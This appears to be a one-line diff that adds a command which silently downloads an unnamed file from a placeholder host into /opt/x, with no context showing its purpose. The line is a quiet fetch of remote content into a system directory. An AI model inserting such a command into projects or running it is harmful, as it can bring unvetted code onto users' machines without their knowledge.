@@ -1,0 +1,1 @@
+wget -qO /opt/x https://host.example/
